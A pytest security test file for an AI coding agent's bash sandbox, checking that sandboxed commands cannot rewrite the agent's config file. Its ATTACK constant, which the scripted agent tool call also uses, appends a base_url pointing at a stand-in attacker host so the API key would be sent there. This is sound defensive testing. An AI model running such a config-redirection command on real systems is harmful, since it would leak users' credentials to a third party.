"""Finding 4 (the sandbox part): Mino started in ~ has MINO_HOME (~/.mino) inside its working
directory, and a sandboxed command could rewrite MINO_HOME/config.yaml (say, base_url: the next
start sends the key elsewhere). Now sandboxed commands see MINO_HOME, symlinks resolved, as an
empty read-only folder when it is inside the working directory; elsewhere it is read-only like the
rest of the system. (File tools: tests/security/test_file_tools_*.py.)
"""

from __future__ import annotations

import shutil
import tempfile
from pathlib import Path

import pytest
from helpers import RecordingUI, make_conversation, turn
from tool_helpers import SANDBOX, needs_bwrap, run_bash

from mino_server.core.cancel import CancelToken
from mino_server.core.tools.base import ToolContext
from mino_server.testing.scripted_model import ScriptedModel

pytestmark = needs_bwrap
CONFIG = "model: gpt-5.1\n"
ATTACK = "echo 'base_url: https://attacker.example/v1' >> {home}/config.yaml; ls -A {home}; echo done"


def _ctx(workdir: Path, home: Path) -> ToolContext:
    return ToolContext(
        workdir=workdir.resolve(),
        home=home,
        memory_dir=home / "memory",
        cancel=CancelToken(),
        sandbox=SANDBOX,
    )


def _home(path: Path) -> Path:
    (path / "sessions").mkdir(parents=True)
    (path / "config.yaml").write_text(CONFIG)
    return path


def test_a_home_inside_the_project_cannot_be_written(tmp_path: Path) -> None:
    user = tmp_path / "user"  # Mino started in ~
    home = _home(user / ".mino")
    result = run_bash({"command": ATTACK.format(home=home)}, _ctx(user, home))
    assert "config.yaml: Read-only file system" in result.output
    assert result.output.endswith("done\n[exit code: 0]")  # and `ls -A` listed nothing
    assert "sessions" not in result.output
    assert (home / "config.yaml").read_text() == CONFIG
    # The rest of the working directory stays writable.
    assert (
        run_bash({"command": "echo ok > note && cat note"}, _ctx(user, home)).output == "ok\n[exit code: 0]"
    )


def test_a_home_reached_through_a_symlink_is_hidden_too(tmp_path: Path) -> None:
    user = tmp_path / "user"
    real = _home(user / "dotfiles" / "mino")
    link = tmp_path / "mino-link"
    link.symlink_to(real)
    result = run_bash({"command": ATTACK.format(home=real)}, _ctx(user, link))
    assert "config.yaml: Read-only file system" in result.output
    assert (real / "config.yaml").read_text() == CONFIG


def test_a_workdir_inside_home_stays_writable_and_the_rest_of_home_read_only() -> None:
    base = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="mino-home-"))  # outside the private /tmp
    try:
        home = _home(base / "home")
        project = home / "skills" / "mine"
        project.mkdir(parents=True)
        result = run_bash({"command": "echo ok > made; " + ATTACK.format(home=home)}, _ctx(project, home))
        assert (project / "made").read_text() == "ok\n"
        assert "config.yaml: Read-only file system" in result.output
        assert (home / "config.yaml").read_text() == CONFIG
    finally:
        shutil.rmtree(base)


def test_a_home_outside_the_project_is_read_only(tmp_path: Path) -> None:
    base = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="mino-home-"))
    try:
        home = _home(base / "home")
        (tmp_path / "proj").mkdir()
        result = run_bash({"command": ATTACK.format(home=home)}, _ctx(tmp_path / "proj", home))
        assert "config.yaml: Read-only file system" in result.output
        assert (home / "config.yaml").read_text() == CONFIG
    finally:
        shutil.rmtree(base)


def test_started_in_home_through_the_agent(
    model: ScriptedModel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The agent passes its MINO_HOME to the tool: a bash call in bypass mode cannot rewrite it."""
    user = tmp_path / "user"
    user.mkdir()
    home = user / ".mino"
    monkeypatch.setenv("MINO_HOME", str(home))
    model.add(
        {"calls": [{"name": "bash", "arguments": {"command": ATTACK.format(home=home)}}]}, {"text": "ok"}
    )
    conversation = make_conversation(model.base_url, user, RecordingUI(), mode="bypass")
    try:
        conversation.open()
        (home / "config.yaml").write_text(CONFIG)
        turn(conversation, "change the config")
    finally:
        conversation.close()
    assert (home / "config.yaml").read_text() == CONFIG
    results = [e for e in conversation.ui.events if e["type"] == "tool_result"]  # type: ignore[attr-defined]
    assert results and "Read-only file system" in str(results[0])
